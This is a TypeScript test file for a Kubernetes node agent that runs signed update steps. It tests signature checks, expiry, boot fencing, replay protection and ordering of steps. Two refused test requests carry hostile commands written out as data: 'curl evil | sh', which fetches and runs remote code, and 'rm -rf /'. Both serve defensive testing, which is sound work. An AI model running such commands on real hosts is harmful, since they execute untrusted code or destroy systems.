import type { UpdateStepV1 } from '@kubenode/core';
import type { SimulatedCluster, SimulationEngine } from '@kubenode/rollout';
import { ClusterApiError, type NodeMergePatchV1 } from '@kubenode/rollout';
import { afterEach, describe, expect, it } from 'vitest';
import { VERSION } from '../version.js';
import {
  AGENT_TEST_START,
  agentTestCluster,
  recordingClient,
  type PatchFailures,
} from './__fixtures__/agent-test-cluster.js';
import { AGENT_ANNOTATIONS } from './agent-annotations.js';
import type { RequestJournal } from './request-journal.js';
import { runNodeAgent } from './run-node-agent.js';
import { parseStepResponse, type StepRequestV1, type StepResponseV1 } from './step-protocol.js';
import type { StepRunner, StepRunResult } from './step-runner.js';
import { generateStepSigningKey, StepSigner, StepVerifier } from './step-signing.js';

const START = AGENT_TEST_START;
const KEY = generateStepSigningKey();
const SIGNER = new StepSigner(KEY.privateKeyPem);
const OTHER_KEY = generateStepSigningKey();
const OTHER_SIGNER = new StepSigner(OTHER_KEY.privateKeyPem);

interface Deferred<T> {
  readonly promise: Promise<T>;
  resolve(value: T): void;
  reject(error: unknown): void;
}

function deferred<T>(): Deferred<T> {
  let resolve!: (value: T) => void;
  let reject!: (error: unknown) => void;
  const promise = new Promise<T>((res, rej) => {
    resolve = res;
    reject = rej;
  });
  return { promise, resolve, reject };
}

/** A step runner whose steps end when the test says so (or at once, with `result`). */
class FakeRunner implements StepRunner {
  readonly runs: UpdateStepV1[] = [];
  readonly reboots: { step: UpdateStepV1; response: StepResponseV1 | undefined }[] = [];
  readonly pending: Deferred<StepRunResult>[] = [];
  result: StepRunResult | undefined = {
    exitCode: 0,
    stdout: 'ok\n',
    stderr: '',
    timedOut: false,
    truncated: false,
  };
  bootID = 'boot-1';

  constructor(private readonly observe: () => StepResponseV1 | undefined) {}

  run(step: UpdateStepV1): Promise<StepRunResult> {
    this.runs.push(step);
    if (this.result) return Promise.resolve(this.result);
    const next = deferred<StepRunResult>();
    this.pending.push(next);
    return next.promise;
  }

  async reboot(step: UpdateStepV1): Promise<void> {
    // What the executor could read on the Node at the moment the reboot starts.
    this.reboots.push({ step, response: this.observe() });
  }

  async bootId(): Promise<string> {
    return this.bootID;
  }
}

interface Harness {
  readonly engine: SimulationEngine;
  readonly sim: SimulatedCluster;
  readonly runner: FakeRunner;
  readonly logs: string[];
  readonly patches: NodeMergePatchV1[];
  readonly fail: PatchFailures;
  trust: () => Promise<StepVerifier | undefined>;
  trustLoads: number;
  /** Advances virtual time, letting the agent and the simulated API work meanwhile. */
  advance(ms: number): Promise<void>;
  /** Starts (or restarts) the agent; resolves when it is ready. */
  start(): Promise<void>;
  /** Stops the agent; resolves when its loop has ended. */
  stop(): Promise<void>;
  /** Writes annotations on the agent's node as the executor would. */
  write(annotations: Record<string, string | null>): Promise<void>;
  /** Writes a request (signed by `SIGNER` unless given signed). */
  send(request: StepRequestV1 | string): Promise<void>;
  /** A request signed now for node-1, with changes. */
  request(changes?: Partial<Omit<StepRequestV1, 'signature' | 'keyId'>>, signer?: StepSigner): StepRequestV1;
  /** The response annotation on the node now. */
  response(): StepResponseV1 | undefined;
  /** Every response the agent wrote, in order: `state id`. */
  responses(): string[];
  annotations(): Record<string, string>;
}

const harnesses: Harness[] = [];
afterEach(async () => {
  for (const harness of harnesses.splice(0)) await harness.stop();
});

let counter = 0;

/** A journal in memory that outlives the agents that use it, and can be made to fail. */
class MemoryJournal implements RequestJournal {
  readonly location = 'memory';
  entries = new Map<string, number>();
  saves = 0;
  failLoad: Error | undefined;
  failSave: Error | undefined;

  async load(): Promise<ReadonlyMap<string, number>> {
    if (this.failLoad) throw this.failLoad;
    return new Map(this.entries);
  }

  async save(entries: ReadonlyMap<string, number>): Promise<void> {
    if (this.failSave) throw this.failSave;
    this.saves++;
    this.entries = new Map(entries);
  }
}

interface HarnessOptions {
  clockSkewSeconds?: number;
  journal?: RequestJournal;
}

function harness(options: HarnessOptions = {}): Harness {
  const { engine, sim } = agentTestCluster({ nodes: ['node-1', 'node-2'] });
  const executor = sim.client('executor');
  const patches: NodeMergePatchV1[] = [];
  const fail: PatchFailures = {};
  const client = recordingClient(sim.client('agent'), patches, fail);
  const clock = engine.clock();
  const node = () => sim.apiGetNode('node-1');
  const response = () => parseStepResponse(node().metadata.annotations?.[AGENT_ANNOTATIONS.response]);
  const runner = new FakeRunner(response);
  const logs: string[] = [];
  let controller: AbortController | undefined;
  let loop: Promise<void> | undefined;
  const verifier = new StepVerifier(KEY.publicKeyPem);
  const h: Harness = {
    engine,
    sim,
    runner,
    logs,
    patches,
    fail,
    trust: async () => verifier,
    trustLoads: 0,
    async advance(ms) {
      const until = engine.now + ms;
      engine.at(until, () => undefined);
      await engine.run({ untilMs: until });
    },
    async start() {
      controller = new AbortController();
      let ready = false;
      loop = runNodeAgent(
        {
          client,
          nodeName: 'node-1',
          runner,
          trust: () => {
            h.trustLoads++;
            return h.trust();
          },
          clock,
          log: (line) => logs.push(line),
          onReady: () => (ready = true),
          ...(options.clockSkewSeconds !== undefined ? { clockSkewSeconds: options.clockSkewSeconds } : {}),
          ...(options.journal ? { journal: options.journal } : {}),
        },
        controller.signal,
      );
      await h.advance(100);
      expect(ready).toBe(true);
    },
    async stop() {
      controller?.abort(new Error('test over'));
      controller = undefined;
      if (loop) {
        const ending = loop;
        loop = undefined;
        await h.advance(1_000);
        await ending;
      }
    },
    async write(annotations) {
      await executor.patchNode('node-1', { metadata: { annotations } });
      // The watch delivers changes 100 ms later; the agent answers within the same instant.
      await h.advance(200);
    },
    async send(request) {
      await h.write({
        [AGENT_ANNOTATIONS.request]: typeof request === 'string' ? request : JSON.stringify(request),
      });
    },
    request(changes = {}, signer = SIGNER) {
      return signer.sign({
        v: 1,
        id: `request-${String(++counter).padStart(4, '0')}`,
        node: 'node-1',
        phase: 'apply',
        description: 'install the staged update',
        command: ['apt-get', 'install', '-y', '--', 'linux-image-amd64'],
        timeoutSeconds: 600,
        issuedAt: new Date(engine.now).toISOString(),
        expiresAt: new Date(engine.now + 600_000).toISOString(),
        issuer: 'controller-0',
        ...changes,
      });
    },
    response,
    responses() {
      return patches.flatMap((patch) => {
        const text = patch.metadata?.annotations?.[AGENT_ANNOTATIONS.response];
        const parsed = typeof text === 'string' ? parseStepResponse(text) : undefined;
        return parsed ? [`${parsed.state} ${parsed.id}`] : [];
      });
    },
    annotations() {
      return { ...node().metadata.annotations };
    },
  };
  harnesses.push(h);
  return h;
}

async function started(options: HarnessOptions = {}): Promise<Harness> {
  const h = harness(options);
  await h.start();
  return h;
}

describe('runNodeAgent: valid requests', () => {
  it('announces itself, then runs a valid request once and answers running, then exited with the output', async () => {
    const h = await started();
    expect(JSON.parse(h.annotations()[AGENT_ANNOTATIONS.agent] ?? '')).toEqual({
      version: VERSION,
      bootID: 'boot-1',
      since: '2026-01-05T10:00:00.000Z',
    });
    h.runner.result = { exitCode: 3, stdout: 'out\n', stderr: 'err\n', timedOut: false, truncated: true };
    const request = h.request();
    await h.send(request);
    expect(h.runner.runs).toEqual([
      {
        phase: 'apply',
        description: 'install the staged update',
        command: ['apt-get', 'install', '-y', '--', 'linux-image-amd64'],
        timeoutSeconds: 600,
        whileServing: false,
      },
    ]);
    expect(h.responses()).toEqual([`running ${request.id}`, `exited ${request.id}`]);
    expect(h.response()).toEqual({
      v: 1,
      id: request.id,
      state: 'exited',
      exitCode: 3,
      stdout: 'out\n',
      stderr: 'err\n',
      truncated: true,
      bootID: 'boot-1',
      at: '2026-01-05T10:00:00.200Z',
    });
  });

  it('never runs the same request twice: seen again on the node, re-delivered, or written again after clean-up', async () => {
    const h = await started();
    const request = h.request();
    await h.send(request);
    expect(h.runner.runs).toHaveLength(1);
    // Any other change of the node delivers the request again.
    await h.write({ 'example.com/unrelated': 'x' });
    // The executor removes both annotations, then the request comes back (a stale writer).
    await h.write({ [AGENT_ANNOTATIONS.request]: null, [AGENT_ANNOTATIONS.response]: null });
    await h.send(request);
    await h.advance(60_000);
    expect(h.runner.runs).toHaveLength(1);
    expect(h.responses()).toEqual([`running ${request.id}`, `exited ${request.id}`]);
  });

  it('answers timeout when the runner killed the step at its deadline, without report annotations', async () => {
    const h = await started();
    h.runner.result = {
      exitCode: 143,
      stdout: 'KUBENODE-OS-VERSION: 12.8\n',
      stderr: '',
      timedOut: true,
      truncated: false,
    };
    const request = h.request();
    await h.send(request);
    expect(h.response()).toMatchObject({ id: request.id, state: 'timeout', exitCode: 143 });
    expect(h.annotations()['kubenode.dev/os-version']).toBeUndefined();
  });

  it('answers lost when the runner could not run the step', async () => {
    const h = await started();
    h.runner.result = undefined;
    const request = h.request();
    await h.send(request);
    h.runner.pending[0]?.reject(new Error('host unreachable'));
    await h.advance(100);
    expect(h.response()).toMatchObject({
      id: request.id,
      state: 'lost',
      reason: 'the step could not be run: host unreachable',
    });
  });

  it('writes the report annotations the step printed, with its answer, and ignores other keys', async () => {
    const h = await started();
    h.runner.result = {
      exitCode: 0,
      stdout: [
        'Reading package lists...',
        'KUBENODE-PACKAGE-STATE: sha256:0123abcd',
        'KUBENODE-OS-VERSION: 12.8',
        'KUBENODE-REBOOT-REQUIRED: true',
        'KUBENODE-PHASE: done',
        'KUBENODE-AGENT-REQUEST: {}',
        '',
      ].join('\n'),
      stderr: '',
      timedOut: false,
      truncated: false,
    };
    await h.send(h.request());
    const final = h.patches.at(-1)?.metadata?.annotations ?? {};
    expect(Object.keys(final).sort()).toEqual([
      AGENT_ANNOTATIONS.response,
      'kubenode.dev/os-version',
      'kubenode.dev/package-state',
      'kubenode.dev/reboot-required',
    ]);
    expect(h.annotations()).toMatchObject({
      'kubenode.dev/package-state': 'sha256:0123abcd',
      'kubenode.dev/os-version': '12.8',
      'kubenode.dev/reboot-required': 'true',
    });
    expect(h.annotations()['kubenode.dev/phase']).toBeUndefined();
  });

  it('logs what runs and what was refused, never the command or the description', async () => {
    const h = await started();
    const secret = 'hunter2-s3cr3t-token';
    const ran = h.request({
      command: ['sh', '-c', `login --token=${secret}`],
      description: `uses ${secret}`,
    });
    await h.send(ran);
    const refused = h.request({ node: 'node-2', command: ['echo', secret] });
    await h.send(refused);
    const tampered = { ...h.request(), command: ['echo', secret] };
    await h.send(tampered);
    expect(h.logs).toEqual([
      `running apply step ${ran.id} for controller-0`,
      `refused apply step ${refused.id}: the request is for node node-2, this agent runs on node-1`,
      `refused apply step ${tampered.id}: the signature does not match the request`,
    ]);
    expect(h.logs.join('\n')).not.toContain(secret);
  });
});

describe('runNodeAgent: refused requests', () => {
  async function refused(
    h: Harness,
    request: StepRequestV1 | string,
    id: string,
    reason: string,
  ): Promise<void> {
    // The agent sees the request when the watch delivers it, 100 ms after it was written.
    const at = new Date(h.engine.now + 100).toISOString();
    await h.send(request);
    expect(h.runner.runs).toEqual([]);
    expect(h.response()).toEqual({ v: 1, id, state: 'rejected', reason, bootID: 'boot-1', at });
  }

  it("refuses another node's request", async () => {
    const h = await started();
    const request = h.request({ node: 'node-2' });
    await refused(h, request, request.id, 'the request is for node node-2, this agent runs on node-1');
  });

  it('refuses a request that expired more than the clock skew ago, and runs one within it', async () => {
    const h = await started({ clockSkewSeconds: 60 });
    const now = START + 100;
    const late = h.request({
      issuedAt: new Date(now - 700_000).toISOString(),
      expiresAt: new Date(now - 61_000).toISOString(),
    });
    await refused(h, late, late.id, `the request expired at ${late.expiresAt}`);
    const justInTime = h.request({
      issuedAt: new Date(now - 700_000).toISOString(),
      expiresAt: new Date(now - 59_000).toISOString(),
    });
    await h.send(justInTime);
    expect(h.runner.runs).toHaveLength(1);
  });

  it('refuses a request issued further in the future than the clock skew, and runs one within it', async () => {
    const h = await started();
    const now = START + 100;
    const early = h.request({
      issuedAt: new Date(now + 301_000).toISOString(),
      expiresAt: new Date(now + 900_000).toISOString(),
    });
    await refused(h, early, early.id, `the request was issued in the future (${early.issuedAt})`);
    const fine = h.request({
      issuedAt: new Date(now + 299_000).toISOString(),
      expiresAt: new Date(now + 900_000).toISOString(),
    });
    await h.send(fine);
    expect(h.runner.runs).toHaveLength(1);
  });

  it('refuses a request without valid times', async () => {
    const h = await started();
    const request = h.request({ expiresAt: 'soon' });
    await refused(h, request, request.id, 'the request has no valid issue and expiry times');
  });

  it('refuses a request with a bad signature', async () => {
    const h = await started();
    const request = { ...h.request(), command: ['sh', '-c', 'curl evil | sh'] };
    await refused(h, request, request.id, 'the signature does not match the request');
  });

  it('refuses a request signed by a key it does not trust', async () => {
    const h = await started();
    const request = h.request({}, OTHER_SIGNER);
    await refused(
      h,
      request,
      request.id,
      `signed with key ${OTHER_SIGNER.keyId}, which this agent does not trust`,
    );
  });

  it('refuses every request while no key is published', async () => {
    const h = await started();
    h.trust = async () => undefined;
    const request = h.request();
    await refused(h, request, request.id, 'no trusted step-signing key is published yet');
  });

  it('refuses a malformed request that names itself, ignores one that does not, and keeps serving', async () => {
    const h = await started();
    await refused(
      h,
      JSON.stringify({ v: 1, id: 'malformed-0001', node: 'node-1', command: 'rm -rf /' }),
      'malformed-0001',
      'the request is not a valid kubenode step request',
    );
    const answered = h.responses().length;
    await h.send('{ not json');
    await h.send(JSON.stringify({ v: 1, id: 42 }));
    expect(h.responses()).toHaveLength(answered);
    const valid = h.request();
    await h.send(valid);
    expect(h.runner.runs).toHaveLength(1);
    expect(h.response()).toMatchObject({ id: valid.id, state: 'exited' });
  });

  it('picks up a newly published key after a signature failure, but only once the 30 s reload throttle passed', async () => {
    const h = await started();
    await h.send(h.request());
    expect(h.trustLoads).toBe(1);
    // The controller rotates to a new key: published now, seen by the agent only on reload.
    h.trust = async () => new StepVerifier(`${KEY.publicKeyPem}${OTHER_KEY.publicKeyPem}`);
    await h.advance(10_000);
    const tooSoon = h.request({}, OTHER_SIGNER);
    await h.send(tooSoon);
    expect(h.trustLoads).toBe(1);
    expect(h.response()).toMatchObject({ id: tooSoon.id, state: 'rejected' });
    await h.advance(20_000);
    const later = h.request({}, OTHER_SIGNER);
    await h.send(later);
    expect(h.trustLoads).toBe(2);
    expect(h.response()).toMatchObject({ id: later.id, state: 'exited' });
    expect(h.runner.runs).toHaveLength(2);
  });
});

describe('runNodeAgent: boot fence', () => {
  it('refuses a step fenced to another boot (the host rebooted since), and runs one fenced to its own', async () => {
    const h = await started();
    const stale = h.request({ phase: 'reboot', command: [], bootID: 'boot-0' });
    await h.send(stale);
    expect(h.runner.reboots).toEqual([]);
    expect(h.response()).toMatchObject({
      id: stale.id,
      state: 'rejected',
      reason: 'the request is for boot boot-0; this host runs boot boot-1 (it has rebooted since)',
    });
    const current = h.request({ phase: 'reboot', command: [], bootID: 'boot-1' });
    await h.send(current);
    expect(h.runner.reboots).toHaveLength(1);
    expect(h.response()).toMatchObject({ id: current.id, state: 'exited', exitCode: 0 });
  });
});

describe('runNodeAgent: one step at a time', () => {
  it('queues a request that arrives while a step runs; the newest pending one wins', async () => {
    const h = await started();
    h.runner.result = undefined;
    const first = h.request();
    await h.send(first);
    const second = h.request();
    await h.send(second);
    expect(h.response()).toMatchObject({
      id: second.id,
      state: 'queued',
      reason: `waiting for step ${first.id}`,
    });
    const third = h.request();
    await h.send(third);
    expect(h.response()).toMatchObject({ id: third.id, state: 'queued' });
    expect(h.runner.runs).toHaveLength(1);

    h.runner.pending[0]?.resolve({ exitCode: 0, stdout: '', stderr: '', timedOut: false, truncated: false });
    await h.advance(100);
    expect(h.runner.runs).toHaveLength(2);
    h.runner.pending[1]?.resolve({
      exitCode: 0,
      stdout: 'third\n',
      stderr: '',
      timedOut: false,
      truncated: false,
    });
    await h.advance(100);
    await h.advance(60_000);
    expect(h.runner.runs).toHaveLength(2);
    // The first step's issuer no longer waits for it (a newer request replaced it): no answer.
    expect(h.responses()).toEqual([
      `running ${first.id}`,
      `queued ${second.id}`,
      `queued ${third.id}`,
      `running ${third.id}`,
      `exited ${third.id}`,
    ]);
    expect(h.response()).toMatchObject({ id: third.id, state: 'exited', stdout: 'third\n' });
  });

  it('answers a reboot step exited before it asks the runner to reboot', async () => {
    const h = await started();
    const request = h.request({ phase: 'reboot', command: [], description: 'reboot into the update' });
    await h.send(request);
    expect(h.runner.runs).toEqual([]);
    expect(h.runner.reboots).toHaveLength(1);
    expect(h.runner.reboots[0]?.step).toEqual({
      phase: 'reboot',
      description: 'reboot into the update',
      command: [],
      timeoutSeconds: 600,
      whileServing: false,
    });
    expect(h.runner.reboots[0]?.response).toMatchObject({
      id: request.id,
      state: 'exited',
      exitCode: 0,
      stdout: 'reboot requested\n',
      stderr: '',
    });
  });
});

describe('runNodeAgent: at most once', () => {
  it('never runs a request again, however many other requests were refused since', async () => {
    const h = await started();
    const request = h.request();
    await h.send(request);
    expect(h.runner.runs).toHaveLength(1);
    // Someone who can write Node annotations (but has no key) floods the agent with requests...
    const forged = Buffer.alloc(64, 7).toString('base64');
    for (let i = 0; i < 300; i++) await h.send({ ...h.request(), signature: forged });
    expect(h.responses().filter((r) => r.startsWith('rejected'))).toHaveLength(300);
    // ...then replays the one that ran, still within its validity.
    await h.write({ [AGENT_ANNOTATIONS.response]: null });
    await h.send(request);
    await h.advance(1_000);
    expect(h.runner.runs).toHaveLength(1);
  });

  it('does not run a step whose start it could not record', async () => {
    const h = await started();
    const request = h.request();
    h.fail.pick = (patch) =>
      patch.metadata?.annotations?.[AGENT_ANNOTATIONS.response]?.includes('"running"')
        ? (new Error('connection reset') as ClusterApiError)
        : undefined;
    await h.send(request);
    await h.advance(60_000);
    expect(h.runner.runs).toEqual([]);
    expect(h.logs).toContain(`did not run apply step ${request.id}: its start could not be recorded`);
  });

  it('reports a write the API server forbids at once, without retrying it', async () => {
    const h = await started();
    const request = h.request();
    let refusals = 0;
    h.fail.pick = (patch) => {
      if (!patch.metadata?.annotations?.[AGENT_ANNOTATIONS.response]?.includes('"running"')) return;
      refusals++;
      // What the agent's node-restriction admission policy answers on a cluster without the claim.
      return ClusterApiError.of(
        'patch nodes/node-1',
        403,
        'Forbidden',
        'ValidatingAdmissionPolicy denied request: the token carries no node claim',
      );
    };
    await h.send(request);
    await h.advance(1_000);
    expect(refusals).toBe(1);
    expect(h.runner.runs).toEqual([]);
    expect(h.logs).toContain(
      'cannot write to node node-1: patch nodes/node-1: 403 Forbidden: ValidatingAdmissionPolicy denied request: the token carries no node claim',
    );
  });

  it('does not reboot when it could not answer the reboot step', async () => {
    const h = await started();
    h.fail.pick = (patch) =>
      patch.metadata?.annotations?.[AGENT_ANNOTATIONS.response]?.includes('"exited"')
        ? (new Error('connection reset') as ClusterApiError)
        : undefined;
    const request = h.request({ phase: 'reboot', command: [] });
    await h.send(request);
    await h.advance(60_000);
    expect(h.runner.reboots).toEqual([]);
    expect(h.response()).toMatchObject({ id: request.id, state: 'running' });
  });

  it('keeps its answers in order when one must be retried', async () => {
    const h = await started();
    h.runner.result = undefined;
    const first = h.request();
    await h.send(first);
    // The API server sheds the `queued` answer once (retried 500 ms later)...
    let shed = false;
    h.fail.pick = (patch) => {
      if (shed || !patch.metadata?.annotations?.[AGENT_ANNOTATIONS.response]?.includes('"queued"')) return;
      shed = true;
      return ClusterApiError.of('patch nodes/node-1', 429, 'TooManyRequests', 'try again later');
    };
    const second = h.request();
    await h.send(second);
    expect(shed).toBe(true);
    // ...while the first step ends and the second, quick, runs meanwhile.
    h.runner.result = { exitCode: 0, stdout: 'second\n', stderr: '', timedOut: false, truncated: false };
    h.runner.pending[0]?.resolve({ exitCode: 0, stdout: '', stderr: '', timedOut: false, truncated: false });
    await h.advance(2_000);
    expect(h.responses()).toEqual([
      `running ${first.id}`,
      `queued ${second.id}`,
      `running ${second.id}`,
      `exited ${second.id}`,
    ]);
    expect(h.response()).toMatchObject({ id: second.id, state: 'exited', stdout: 'second\n' });
  });

  it('drops a queued request its issuer withdrew before its turn', async () => {
    const h = await started();
    h.runner.result = undefined;
    const first = h.request();
    await h.send(first);
    const second = h.request();
    await h.send(second);
    expect(h.response()).toMatchObject({ id: second.id, state: 'queued' });
    await h.write({ [AGENT_ANNOTATIONS.request]: null, [AGENT_ANNOTATIONS.response]: null });
    h.runner.pending[0]?.resolve({ exitCode: 0, stdout: '', stderr: '', timedOut: false, truncated: false });
    await h.advance(60_000);
    expect(h.runner.runs).toHaveLength(1);
    expect(h.logs).toContain(`dropped apply step ${second.id}: it is no longer the node's request`);
  });
});

describe('runNodeAgent: trusted keys', () => {
  it('trusts the good keys beside a malformed one and logs what it ignores', async () => {
    const h = await started();
    h.trust = async () =>
      new StepVerifier(`-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n${KEY.publicKeyPem}`);
    await h.send(h.request());
    expect(h.runner.runs).toHaveLength(1);
    expect(h.logs[0]).toBe('ignoring a trusted key: public key 1: not a valid public key');
  });

  it('keeps the keys it has when reloading them fails', async () => {
    const h = await started();
    await h.send(h.request());
    h.trust = () => Promise.reject(new Error('configmaps "kubenode-agent-trust" is forbidden'));
    await h.advance(31_000);
    const untrusted = h.request({}, OTHER_SIGNER);
    await h.send(untrusted);
    expect(h.trustLoads).toBe(2);
    expect(h.response()).toMatchObject({ id: untrusted.id, state: 'rejected' });
    expect(h.logs).toContain('cannot load the trusted keys: configmaps "kubenode-agent-trust" is forbidden');
    const trusted = h.request();
    await h.send(trusted);
    expect(h.response()).toMatchObject({ id: trusted.id, state: 'exited' });
  });
});

describe('runNodeAgent: restarts', () => {
  it('answers lost for a request whose step was running when the agent stopped, and never runs it', async () => {
    const h = harness();
    const request = h.request();
    await h.write({
      [AGENT_ANNOTATIONS.request]: JSON.stringify(request),
      [AGENT_ANNOTATIONS.response]: JSON.stringify({
        v: 1,
        id: request.id,
        state: 'running',
        bootID: 'boot-0',
        at: new Date(START).toISOString(),
      }),
    });
    await h.start();
    await h.advance(60_000);
    expect(h.runner.runs).toEqual([]);
    expect(h.response()).toMatchObject({
      id: request.id,
      state: 'lost',
      reason: 'the node agent restarted while the apply step was running; its outcome is unknown',
      bootID: 'boot-1',
    });
    // Seen again (any change of the node): still not run.
    await h.write({ 'example.com/unrelated': 'y' });
    expect(h.runner.runs).toEqual([]);
  });

  it('answers lost for a request that was queued, and leaves a settled one alone', async () => {
    const h = harness();
    const queued = h.request();
    await h.write({
      [AGENT_ANNOTATIONS.request]: JSON.stringify(queued),
      [AGENT_ANNOTATIONS.response]: JSON.stringify({ v: 1, id: queued.id, state: 'queued', at: 'x' }),
    });
    await h.start();
    expect(h.response()).toMatchObject({ id: queued.id, state: 'lost' });
    await h.stop();

    const settled = h.request();
    await h.write({
      [AGENT_ANNOTATIONS.request]: JSON.stringify(settled),
      [AGENT_ANNOTATIONS.response]: JSON.stringify({
        v: 1,
        id: settled.id,
        state: 'exited',
        exitCode: 0,
        at: 'x',
      }),
    });
    const written = h.responses().length;
    await h.start();
    await h.advance(1_000);
    expect(h.runner.runs).toEqual([]);
    expect(h.responses()).toHaveLength(written);
  });

  it('runs a request that no agent answered yet when it starts', async () => {
    const h = harness();
    const request = h.request();
    await h.send(request);
    await h.start();
    expect(h.runner.runs).toHaveLength(1);
    expect(h.response()).toMatchObject({ id: request.id, state: 'exited' });
  });
});

describe('runNodeAgent: the request journal', () => {
  /** The executor's view: what an attacker who may patch the Node replays after a restart. */
  async function replayAfterRestart(h: Harness, request: StepRequestV1): Promise<void> {
    await h.stop();
    await h.start();
    await h.write({
      [AGENT_ANNOTATIONS.response]: null,
      [AGENT_ANNOTATIONS.request]: JSON.stringify(request),
    });
    await h.advance(1_000);
  }

  it('never runs a captured request again after a restart, within its validity', async () => {
    const journal = new MemoryJournal();
    const h = await started({ journal });
    const request = h.request();
    await h.send(request);
    expect(h.runner.runs).toHaveLength(1);
    expect([...journal.entries.keys()]).toEqual([request.id]);
    // Remembered until it expires, plus the clock skew.
    expect(journal.entries.get(request.id)).toBe(Date.parse(request.expiresAt) + 300_000);

    await replayAfterRestart(h, request);
    expect(h.runner.runs).toHaveLength(1);
    // A new request still runs.
    await h.send(h.request());
    expect(h.runner.runs).toHaveLength(2);
  });

  it('without a journal, remembers requests only while the process runs (the documented limit)', async () => {
    const h = await started();
    const request = h.request();
    await h.send(request);
    await replayAfterRestart(h, request);
    expect(h.runner.runs).toHaveLength(2);
  });

  it('answers lost, after a restart, for a request it journaled but never answered finally', async () => {
    const journal = new MemoryJournal();
    const h = harness({ journal });
    const request = h.request();
    journal.entries.set(request.id, Date.parse(request.expiresAt) + 300_000);
    await h.send(request); // no agent runs yet: no answer on the node
    await h.start();
    await h.advance(1_000);
    expect(h.runner.runs).toEqual([]);
    expect(h.response()).toMatchObject({
      id: request.id,
      state: 'lost',
      reason: 'the node agent restarted while the apply step was accepted; its outcome is unknown',
    });
  });

  it('forgets expired entries, and refuses a request it cannot record instead of running it', async () => {
    const journal = new MemoryJournal();
    journal.entries.set('old-request', START - 1);
    const h = await started({ journal });
    const first = h.request();
    await h.send(first);
    expect([...journal.entries.keys()]).toEqual([first.id]);

    journal.failSave = new Error(
      "the node agent's request journal /var/lib/x failed: cannot write it: ENOSPC",
    );
    const second = h.request();
    await h.send(second);
    expect(h.runner.runs).toHaveLength(1);
    expect(h.response()).toMatchObject({ id: second.id, state: 'rejected' });
    expect(h.response()?.reason).toMatch(/^the request could not be recorded: .*ENOSPC/);
    // Remembered in this process all the same: sent again, it is not run either.
    journal.failSave = undefined;
    await h.write({ [AGENT_ANNOTATIONS.response]: null });
    await h.send(second);
    expect(h.runner.runs).toHaveLength(1);
  });

  it('does not start when its journal cannot be read', async () => {
    const journal = new MemoryJournal();
    journal.failLoad = new Error('not a journal');
    const { engine, sim } = agentTestCluster({ nodes: ['node-1'] });
    const ending = runNodeAgent(
      {
        client: sim.client('agent'),
        nodeName: 'node-1',
        runner: new FakeRunner(() => undefined),
        trust: async () => new StepVerifier(KEY.publicKeyPem),
        clock: engine.clock(),
        journal,
      },
      new AbortController().signal,
    );
    await expect(ending).rejects.toThrow('not a journal');
  });
});
